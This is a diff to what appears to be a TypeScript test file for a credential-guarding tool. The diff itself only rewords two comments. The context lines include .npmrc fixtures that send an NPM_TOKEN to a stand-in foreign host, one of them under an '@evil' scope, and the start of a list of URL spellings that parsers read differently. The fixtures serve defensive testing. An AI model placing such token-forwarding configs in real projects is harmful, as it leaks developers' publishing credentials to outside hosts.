@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest'
 import { runGuard, sandbox, tempHome } from '../helpers/guard.ts'
 
-/** The config that sends the variable to another host, beside the line that defines it. */
+/** The config that sends the variable to another host, and the line that defines the variable. */
 const BESIDE: Record<string, Record<string, string>> = {
   'npm, by its key': { 'p/.npmrc': '//other.example/:_authToken=${NPM_TOKEN}\n' },
   'npm, in the path of a registry': { 'p/.npmrc': '@evil:registry=http://other.example/x/${NPM_TOKEN}/\n' },
@@ -95,7 +95,7 @@ test('a start-up file is rotated even if a clone elsewhere uses its variable for
 
 const T = (token: string, host: string) => ({ token, host })
 
-/** Spellings that one reader takes for Guard's host and another for a foreign one. */
+/** Spellings that one URL parser takes for Guard's host and another for a foreign one. */
 const DISAGREEING: [string, (about: ReturnType<typeof T>) => Record<string, string>][] = [
   [
     'a backslash',
